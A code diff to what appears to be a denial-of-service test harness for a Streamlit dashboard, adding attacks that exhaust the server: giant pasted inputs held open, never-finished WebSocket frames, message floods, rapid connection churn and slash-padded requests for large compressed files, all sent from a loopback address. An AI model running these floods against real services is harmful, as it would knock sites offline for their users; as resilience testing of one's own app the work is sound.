@@ -15,12 +15,13 @@ import io
 import json
 import random
 import re
+import socket
 import threading
 import time
 import zipfile
 from collections import Counter
 from collections.abc import Callable
-from contextlib import suppress
+from contextlib import ExitStack, suppress
 from functools import cache
 from http.cookies import SimpleCookie
 from pathlib import Path
@@ -28,6 +29,7 @@ from typing import Any
 from urllib.parse import quote, urlencode, urlsplit
 
 import psutil
+import streamlit
 from openpyxl import Workbook
 from streamlit.proto.BackMsg_pb2 import BackMsg
 from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
@@ -42,6 +44,7 @@ from dashboard.catalog import load_catalog
 ATTACKER = "127.9.9.9"
 _TIMEOUT = 60
 _MEGABYTE = 2**20
+_SCRIPTS = Path(streamlit.__file__).parent / "static" / "static" / "js"
 
 
 class Attack:
@@ -88,6 +91,20 @@ class Attack:
             source_address=(ATTACKER, 0),
         )
         self.answers["page"] += 1
+        return link
+
+    def socket(self) -> socket.socket:
+        """Open a WebSocket whose bytes are sent by hand."""
+        host, port = self.host.split(":")
+        link = socket.create_connection((host, int(port)), _TIMEOUT, (ATTACKER, 0))
+        link.sendall(
+            f"GET /_stcore/stream HTTP/1.1\r\nHost: {self.host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
+        )
+        if b" 101 " not in link.recv(4_096):
+            link.close()
+            self.over.wait(0.2)
+            raise ConnectionRefusedError
         return link
 
     def rerun(self, link: Any, message: BackMsg) -> tuple[str, dict[str, str]]:
@@ -235,6 +252,83 @@ def workbooks(attack: Attack) -> None:
             link.close()
 
 
+def pastes(attack: Attack) -> None:
+    """Paste the widest lists and the longest texts into page after page, and leave the pages open."""
+    cells = "\n".join("\t".join(f"{n}x{m}" for m in range(130)) for n in range(5_000))
+    text = "ж" * 5_900_000
+    held: list[Any] = []
+    while not attack.over.is_set():
+        try:
+            link = attack.page()
+            held.append(link)
+            _session, widgets = attack.rerun(link, BackMsg())
+            message = BackMsg()
+            state = message.rerun_script.widget_states.widgets.add(id=widgets["text_area"])
+            state.string_value = attack.chance.choice((cells, text))
+            attack.rerun(link, message)
+            attack.answers["pasted"] += 1
+        except Exception as error:
+            attack.answers[type(error).__name__] += 1
+            attack.over.wait(0.2)
+            held = [each for each in held if each.state.name == "OPEN"]
+    for each in held:
+        with suppress(Exception):
+            each.close()
+
+
+def frames(attack: Attack) -> None:
+    """Send large messages on many WebSockets, and never their ends."""
+    while not attack.over.is_set():
+        with suppress(OSError), ExitStack() as links:
+            for _ in range(8):
+                link = links.enter_context(attack.socket())
+                link.sendall(b"\x82\xff" + (24_000_000).to_bytes(8, "big") + b"\0\0\0\0")
+                for _part in range(22):
+                    link.sendall(b"x" * _MEGABYTE)
+                attack.answers["incomplete"] += 1
+            attack.over.wait(2)
+        attack.answers["ended"] += 1
+
+
+def files(attack: Attack) -> None:
+    """Ask for the largest answers compressed, and for files under endless addresses."""
+    paths = ["/api/v1/bulk/undesirable-register.sqlite", "/api/v1/articles.csv", "/data/articles.csv", "/sitemap.xml",
+             "/articles.xlsx", "/api/v1/articles?limit=10000", "/api/v1/bulk/entities.ftm.json"]  # fmt: skip
+    attack.request("GET", "/")
+    large = sorted(_SCRIPTS.glob("*.js"), key=lambda path: -path.stat().st_size)[:4]
+    while not attack.over.is_set():
+        slashes = "/" * attack.chance.randint(1, 300)
+        alias = f"/static{slashes}js/{attack.chance.choice(large).name}"
+        path = attack.chance.choice([*paths, alias, alias])
+        attack.request("GET", path, **{"Accept-Encoding": "gzip"})
+
+
+def messages(attack: Attack) -> None:
+    """Send small messages without end, and read no answer."""
+    message = BackMsg()
+    message.rerun_script.page_name = "check"
+    data = message.SerializeToString()
+    small = b"\x82" + bytes([0x80 | len(data)]) + b"\0\0\0\0" + data
+    while not attack.over.is_set():
+        with suppress(OSError), attack.socket() as link:
+            for count in (1, 30, 10_000, 10_000):
+                link.sendall(small * count)
+                attack.answers["sent"] += count
+                attack.over.wait(0.5)
+            link.recv(1)
+        attack.answers["ended"] += 1
+        attack.over.wait(0.1)
+
+
+def openings(attack: Attack) -> None:
+    """Open WebSockets and close them at once."""
+    while not attack.over.is_set():
+        try:
+            attack.page().close()
+        except Exception as error:
+            attack.answers[type(error).__name__] += 1
+
+
 @cache
 def _wide() -> bytes:
     """Return a workbook one row of which has five million empty cells (3.6 MB)."""
@@ -266,6 +360,11 @@ ATTACKS: dict[str, tuple[Callable[[Attack], None], int]] = {
     "sockets": (sockets, 1),
     "uploads": (uploads, 2),
     "workbooks": (workbooks, 2),
+    "pastes": (pastes, 2),
+    "frames": (frames, 2),
+    "files": (files, 24),
+    "messages": (messages, 10),
+    "openings": (openings, 10),
     "none": (lambda attack: None, 0),
 }
 """Of each attack what it does, and how many do it at once."""
